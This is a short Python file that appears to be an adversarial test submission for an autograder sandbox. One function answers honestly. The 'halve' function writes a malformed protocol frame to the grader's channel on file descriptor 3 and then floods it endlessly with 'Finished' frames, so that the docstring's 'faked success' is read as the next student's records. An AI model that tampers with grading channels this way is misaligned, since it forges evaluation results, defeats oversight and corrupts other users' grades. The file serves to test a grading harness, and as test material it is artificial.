"""Fakes success: writes a frame whose text is no UTF-8, then floods, to be read as the next student's records.

worth: 60
"""

import os

from autograder.sandbox.protocol import Finished, frame

PAYLOAD = b"\x82\xa4type\xabprobe_ended\xa7outcome\x82\xa4type\xa7missing\xa4name\xa1\x80"


def square_gradient(x):
    return 2 * x


def halve(x):
    os.write(3, len(PAYLOAD).to_bytes(4, "big") + PAYLOAD)
    while True:
        os.write(3, frame(Finished()) * 1000)
